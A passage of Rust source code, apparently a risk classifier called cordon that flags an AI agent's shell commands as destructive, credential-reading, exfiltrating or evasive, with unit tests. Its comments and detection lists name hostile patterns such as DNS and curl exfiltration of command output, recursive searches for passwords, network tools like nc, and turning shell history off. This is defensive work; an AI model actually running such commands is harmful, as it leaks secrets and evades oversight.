        );
    } else if in_workspace(&p, &w.base) || (w.sandboxed && is_scratch(&p)) {
        let ws = w.base.workspace.trim_end_matches('/');
        if delete && (p == ws) {
            info.add(
                RiskClass::Destructive,
                format!("`{label}` deletes the whole workspace"),
            );
        } else if in_workspace(&p, &w.base) {
            info.add(
                RiskClass::WriteWorkspace,
                format!("`{label}` {verb} inside the workspace"),
            );
        } else {
            info.add(
                RiskClass::WriteWorkspace,
                format!(
                    "`{label}` {verb} {} in the sandbox's private scratch space",
                    a.text
                ),
            );
        }
    } else if delete
        || w.base
            .workspace
            .starts_with(&format!("{}/", p.trim_end_matches('/')))
        || p == "/"
    {
        info.add(
            RiskClass::Destructive,
            format!("`{label}` {verb} {} outside the workspace", a.text),
        );
    } else {
        info.add(
            RiskClass::WriteOutside,
            format!("`{label}` {verb} {} outside the workspace", a.text),
        );
    }
    info.writes.push(p);
}

/// The classes of a file tool writing `path` (`Write`, `Edit`).
pub(crate) fn write_info(path: &str, w: &Where, label: &str) -> Info {
    let mut info = Info::default();
    write_path(
        &mut info,
        &Word {
            text: path.to_string(),
            dynamic: false,
        },
        false,
        w,
        label,
    );
    info
}

/// Command-specific checks the table cannot express.
fn special(info: &mut Info, cmd: &SimpleCmd, name: &str, args: &[Word], w: &Where, label: &str) {
    let _ = w;
    // A shell or interpreter with no program argument reads it from stdin.
    let interp = INTERPRETERS.iter().find(|(n, _)| *n == name);
    if SHELLS.contains(&name) || interp.is_some() {
        let program = args
            .iter()
            .find(|a| !a.text.starts_with('-') || a.text == "-");
        let from_stdin = program.is_none_or(|a| {
            matches!(
                a.text.as_str(),
                "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"
            )
        });
        let subst = program
            .is_some_and(|a| a.dynamic && (a.text.starts_with("<(") || a.text.starts_with("$(")));
        if (from_stdin && cmd.piped && cmd.stdin_text.is_none()) || subst {
            info.stdin_exec = true;
        }
    }
    if let Some(prog) = cmd.argv.first() {
        if prog.text.contains('/') {
            info.runs_file = true;
        }
    }
    if (SHELLS.contains(&name) || interp.is_some())
        && args.iter().any(|a| !a.text.starts_with('-') && !a.dynamic)
        && !args
            .iter()
            .any(|a| a.text == "-c" || a.text == "-e" || a.text == "-m")
    {
        info.runs_file = true;
    }
    // A script a shell, interpreter or `go run` runs from outside the
    // workspace is code cordon has not seen (`python3 /tmp/x.py`,
    // `bash ~/Downloads/setup.sh`, `go run /tmp/x.go`).
    let script = if SHELLS.contains(&name) || interp.is_some() {
        // `-c`, `-e`, also inside combined short options (`perl -pe`, `-ne`).
        let inline_flag = args.iter().any(|a| {
            a.text == "-m"
                || interp.is_some_and(|(_, f)| f.iter().any(|f| flag_matches(f, &a.text)))
                || (SHELLS.contains(&name) && flag_matches("-c", &a.text))
        });
        // The user's own shell start-up files (`source ~/.bashrc`) run in
        // every shell anyway: not code nobody has seen.
        let startup = |t: &str| {
            matches!(name, "source" | ".")
                && table_match(&PERSISTENCE, &resolve(t, &w.base), w.base.home).is_some()
        };
        args.iter()
            .find(|a| !a.text.starts_with('-'))
            .filter(|s| !inline_flag && !startup(&s.text))
    } else if table::SCRIPT_RUNNERS
        .iter()
        .any(|(n, sub)| *n == name && args.first().is_some_and(|a| a.text == *sub))
    {
        args[1..].iter().find(|a| !a.text.starts_with('-'))
    } else {
        None
    };
    if let Some(script) = script.filter(|s| !s.dynamic) {
        if let Some(dir) = foreign_code(&script.text, w) {
            info.add(
                RiskClass::Unknown,
                format!(
                    "`{label}` runs the script {} from {dir}, outside the workspace: code cordon has not seen",
                    script.text
                ),
            );
        }
    }
    if interp.is_some() {
        if let Some(i) = args.iter().position(|a| a.text == "-m") {
            if let Some(m) = args.get(i + 1) {
                inline(info, &m.text, label, &[]);
            }
        }
    }
    if let Some((_, flags)) = interp {
        let code = args
            .iter()
            .position(|a| flags.contains(&a.text.as_str()))
            .and_then(|i| args.get(i + 1));
        let code = code.map(|c| c.text.as_str()).or(cmd.stdin_text.as_deref());
        if let Some(code) = code {
            inline(info, code, label, &[]);
        }
    }
    if AWKS.contains(&name) {
        if let Some(prog) = args.iter().find(|a| !a.text.starts_with('-')) {
            inline(info, &prog.text, label, AWK_PARSED);
        }
    }
    if DOWNLOADERS.contains(&name) && info.classes.contains(RiskClass::NetRead) {
        info.downloads = true;
    }
    // Data built at run time in a network command's arguments is sent out
    // (`dig $(cat secret | base64).example.com`, `curl "https://x/?d=$(id)"`).
    if (info.classes.contains(RiskClass::NetRead) || info.classes.contains(RiskClass::NetSend))
        && args
            .iter()
            .any(|a| a.dynamic && (a.text.contains("$(") || a.text.contains('`')))
    {
        info.add(
            RiskClass::NetSend,
            format!("`{label}` sends data computed at run time over the network"),
        );
    }
    // `$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`: a secret from the environment.
    for a in args.iter().chain(cmd.env.iter().map(|(_, v)| v)) {
        if a.dynamic {
            if let Some(var) = secret_var(&a.text) {
                info.add(
                    RiskClass::Credential,
                    format!("`{label}` uses the secret in ${var}"),
                );
            }
        }
    }
    if SEARCHERS.contains(&name) {
        secret_search(info, name, args, w, label);
    }
    match name {
        "chmod" => {
            if args.iter().any(|a| setuid_mode(&a.text)) {
                info.add(
                    RiskClass::Privilege,
                    format!("`{label}` sets the setuid/setgid bit"),
                );
            }
            if args
                .iter()
                .any(|a| a.text.contains("+x") || (a.text.len() == 3 && a.text.starts_with('7')))
            {
                info.runs_file = true;
            }
        }
        "kill" | "pkill" | "killall" | "systemctl" | "service"
            if args.iter().any(|a| {
                let t = a.text.trim_end_matches(".service").to_ascii_lowercase();
                table::SECURITY_TOOLS.iter().any(|s| t == *s)
            }) && !info.classes.iter().all(|c| c == RiskClass::ReadOnly) =>
        {
            info.add(
                RiskClass::Evasion,
                format!("`{label}` targets a security service"),
            );
        }
        _ => {}
    }
    if table::PERMISSION_COMMANDS.contains(&name) {
        permissions(info, w, label);
    }
    endless(info, cmd, name, args);
    if ENV_DUMPS.contains(&name) {
        let bare = args.iter().all(|a| {
            a.text.starts_with('-')
                && matches!(a.text.as_str(), "-p" | "-x" | "-0" | "--null" | "-i")
        }) && !(name == "env" && args.iter().any(|a| a.text == "-i"));
        if bare {
            info.add(
                RiskClass::Credential,
                format!("`{label}` prints the environment, which holds tokens"),
            );
        }
    }
    if name == "set"
        && args
            .windows(2)
            .any(|p| p[0].text == "+o" && p[1].text == "history")
    {
        info.add(
            RiskClass::Evasion,
            format!("`{label}` turns the shell history off"),
        );
    }
}

/// chmod, chown and friends: outside the workspace (the sandbox's /tmp
/// included) they change access control. Inside the workspace modes and owners
/// are the project's business (the setuid bit, which does escalate, asks
/// anywhere).
fn permissions(info: &mut Info, w: &Where, label: &str) {
    if let Some(p) = info.writes.iter().find(|p| !in_workspace(p, &w.base)) {
        let p = p.clone();
        info.add(
            RiskClass::Privilege,
            format!("`{label}` changes who may read, write or run {p}, outside the workspace"),
        );
    }
}

/// Output without end: `yes`, or copying a device that never runs dry with no
/// bound (`cat /dev/zero`, `dd if=/dev/urandom` without `count=`).
fn endless(info: &mut Info, cmd: &SimpleCmd, name: &str, args: &[Word]) {
    if table::ENDLESS_COMMANDS.contains(&name) {
        info.endless = true;
        return;
    }
    let Some((_, bound)) = table::ENDLESS_READERS.iter().find(|(n, _)| *n == name) else {
        return;
    };
    let device = |t: &str| table::ENDLESS_DEVICES.contains(&t);
    let reads = args
        .iter()
        .any(|a| device(a.text.strip_prefix("if=").unwrap_or(&a.text)))
        || cmd
            .redirects
            .iter()
            .any(|r| !r.write && device(&r.target.text));
    let bounded = !bound.is_empty() && args.iter().any(|a| a.text.starts_with(bound));
    if reads && !bounded {
        info.endless = true;
    }
}

const DOWNLOADERS: &[&str] = &[
    "curl", "wget", "scp", "sftp", "ftp", "tftp", "rsync", "nc", "ncat", "aria2c", "fetch",
];
const SEARCHERS: &[&str] = &[
    "grep", "egrep", "fgrep", "rg", "ag", "ack", "zgrep", "find", "locate", "mdfind",
];

/// A search for secrets: file names like keys and credentials (find, locate),
/// or secret words searched for outside the workspace (grep -r password /).
fn secret_search(info: &mut Info, name: &str, args: &[Word], w: &Where, label: &str) {
    let secretish = |t: &str| {
        let l = t.to_ascii_lowercase();
        table::SECRET_WORDS.iter().any(|s| l.contains(s))
    };
    let by_name = matches!(name, "find" | "locate" | "mdfind");
    let hit = if by_name {
        // The values of name tests (find) or the patterns (locate).
        let values: Vec<&Word> = if name == "find" {
            args.windows(2)
                .filter(|p| {
                    matches!(
                        p[0].text.as_str(),
                        "-name"
                            | "-iname"
                            | "-path"
                            | "-ipath"
                            | "-wholename"
                            | "-regex"
                            | "-iregex"
                    )
                })
                .map(|p| &p[1])
                .collect()
        } else {
            args.iter().filter(|a| !a.text.starts_with('-')).collect()
        };
        values.iter().any(|a| {
            secretish(&a.text)
                || table_match(
                    &CREDENTIAL,
                    &format!("/_/{}", a.text.trim_start_matches("*/")),
                    None,
                )
                .is_some()
        })
    } else {
        let outside = args
            .iter()
            .filter(|a| !a.text.starts_with('-') && looks_like_path(&a.text))
            .any(|a| {
                let p = resolve(&a.text, &w.base);
                !in_workspace(&p, &w.base)
            });
        outside
            && args
                .iter()
                .any(|a| !a.text.starts_with('-') && secretish(&a.text))
    };
    if hit {
        info.add(
            RiskClass::Credential,
            format!("`{label}` searches for secrets"),
        );
    }
}

/// The first variable in `t` whose name says it holds a secret.
fn secret_var(t: &str) -> Option<&str> {
    let mut rest = t;
    while let Some(i) = rest.find('$') {
        let after = rest[i + 1..].trim_start_matches('{');
        let n = after
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(after.len());
        let name = &after[..n];
        let upper = name.to_ascii_uppercase();
        let words: Vec<&str> = upper.split('_').collect();
        if words.iter().any(|w| table::SECRET_VARS.contains(w))
            || words
                .windows(2)
                .any(|p| table::SECRET_VAR_PAIRS.contains(&(p[0], p[1])))
        {
            return Some(name);
        }
        rest = &after[n..];
    }
    None
}

fn setuid_mode(t: &str) -> bool {
    if t.starts_with('-') {
        return false;
    }
    if t.len() == 4 && t.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
        return matches!(t.as_bytes()[0], b'2' | b'4' | b'6');
    }
    t.split(',').any(|part| {
        part.split_once(['+', '='])
            .is_some_and(|(who, what)| !who.contains('o') && what.contains('s'))
    })
}

/// Markers the awk program analysis in exec.rs reads exactly (a literal
/// command is judged as a command; one built at run time is opaque).
const AWK_PARSED: &[&str] = &["system(", "| getline", "print >", "printf >"];

/// Classes from words in inline code, except the markers in `skip`.
fn inline(info: &mut Info, code: &str, label: &str, skip: &[&str]) {
    for (marker, c) in table::INLINE_MARKERS {
        if code.contains(marker) && !skip.contains(marker) {
            info.add(
                *c,
                format!("`{label}` runs inline code that uses `{marker}`"),
            );
        }
    }
}

/// Hosts named in URLs, `user@host:` and `host:path` arguments.
fn hosts(info: &mut Info, args: &[Word]) {
    if !(info.classes.contains(RiskClass::NetRead) || info.classes.contains(RiskClass::NetSend)) {
        return;
    }
    for a in args {
        let t = a.text.as_str();
        let host = if let Some((_, rest)) = t.split_once("://") {
            let hostport = rest.split(['/', '?', '#']).next().unwrap_or("");
            let hostport = hostport.rsplit('@').next().unwrap_or("");
            Some(strip_port(hostport))
        } else if let Some((user_host, _)) = t
            .split_once(':')
            .filter(|(h, _)| !h.is_empty() && !h.contains('/') && !t.starts_with('-'))
        {
            Some(user_host.rsplit('@').next().unwrap_or("").to_string())
        } else if t.contains('@') && !t.starts_with('-') && !t.contains('/') {
            Some(t.rsplit('@').next().unwrap_or("").to_string())
        } else if !t.starts_with('-')
            && t.contains('.')
            && !t.contains('/')
            && t.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
            && t.chars().any(|c| c.is_ascii_alphabetic())
            && !t.ends_with('.')
        {
            Some(t.to_string())
        } else {
            None
        };
        if let Some(h) = host.filter(|h| !h.is_empty()) {
            if !info.hosts.contains(&h) {
                info.hosts.push(h.to_ascii_lowercase());
            }
        }
    }
}

fn strip_port(hp: &str) -> String {
    if let Some(rest) = hp.strip_prefix('[') {
        return rest.split(']').next().unwrap_or("").to_string();
    }
    hp.split(':').next().unwrap_or("").to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resolve_normalises() {
        let b = Base {
            cwd: "/w/a",
            workspace: "/w",
            home: Some("/home/u"),
        };
        assert_eq!(resolve("../b/./c", &b), "/w/b/c");
        assert_eq!(resolve("~/.ssh/id_rsa", &b), "/home/u/.ssh/id_rsa");
        assert_eq!(resolve("/../../etc", &b), "/etc");
        let nb = Base {
            cwd: "/w",
            workspace: "/w",
            home: None,
        };
        assert_eq!(resolve("~/.bashrc", &nb), "~/.bashrc");
    }

    #[test]
    fn setuid_modes() {
        for m in ["4755", "u+s", "g+s", "+s", "a=rwxs"] {
            assert!(setuid_mode(m), "{m}");
        }
        for m in ["755", "0755", "+x", "u+rwx", "o+s-x"] {
            assert!(!setuid_mode(m) || m == "o+s-x", "{m}");
        }
    }

    #[test]
    fn access_specs_are_not_paths() {
        for (n, t) in [
            ("chmod", "755"),
            ("chmod", "a+w"),
            ("chmod", "u+rwx,g-w"),
            ("chmod", "+x"),
            ("chown", "root:root"),
            ("chattr", "+i"),
        ] {
            assert!(access_spec(n, t), "{n} {t}");
        }
        for (n, t) in [
            ("chmod", "build"),
            ("chmod", "/tmp/x"),
            ("chattr", "file"),
            ("cp", "755"),
        ] {
            assert!(!access_spec(n, t), "{n} {t}");
        }
    }

    #[test]
    fn table_paths_match_home_variants() {
        assert!(table_match(&PERSISTENCE, "/root/.bashrc", None).is_some());
        assert!(table_match(&PERSISTENCE, "/home/x/.ssh/authorized_keys", None).is_some());
        assert!(table_match(&CREDENTIAL, "/w/app/.env", None).is_some());
        assert!(table_match(&CREDENTIAL, "~/.aws/credentials", None).is_some());
        assert!(table_match(&CREDENTIAL, "/w/src/main.rs", None).is_none());
    }

    /// The tables `build.rs` compiled hold every pattern of their sources,
    /// the catalogue's included, each under its last literal segment.
    #[test]
    fn compiled_tables_hold_every_source_pattern() {
        let srcs = |t: &PathTable| -> Vec<&'static str> {
            for pair in t.keys.windows(2) {
                let (a, b) = (t.str(pair[0].0), t.str(pair[1].0));
                assert!(a < b, "sorted: {a} {b}");
            }
            let mut last = 0;
            for &(k, start, end) in t.keys {
                assert!(
                    start == last && start < end && end <= t.rest,
                    "{}",
                    t.str(k)
                );
                last = end;
                for p in &t.pats[usize::from(start)..usize::from(end)] {
                    let mut buf = [""; MAX_SEGS];
                    let segs = t.segs_of(p, &mut buf);
                    assert!(segs.contains(&t.str(k)), "{}", t.str(p.src));
                }
            }
            assert_eq!(last, t.rest);
            t.pats.iter().map(|p| t.str(p.src)).collect()
        };
        let cases: [(&PathTable, Vec<&str>); 2] = [
            (&CREDENTIAL, cordon_catalog::credential_patterns().collect()),
            (
                &PERSISTENCE,
                crate::table::paths::PERSISTENCE_PATHS
                    .iter()
                    .copied()
                    .chain(cordon_catalog::point_patterns())
                    .collect(),
            ),
        ];
        for (t, mut want) in cases {
            let mut got = srcs(t);
            got.sort_unstable();
            want.sort_unstable();
            assert_eq!(got, want);
        }
        for (t, want) in [
            (&EVASION, crate::table::paths::EVASION_PATHS),
            (&SCRATCH, crate::table::paths::SCRATCH_PATHS),
            (&INSTALLED, crate::table::paths::INSTALLED_CODE_PATHS),
            (&SECURITY_LOGS, crate::table::paths::SECURITY_LOG_PATHS),
        ] {
            assert_eq!(srcs(t).len(), want.len());
            assert!(want.iter().all(|p| srcs(t).contains(p)));
        }
    }
}
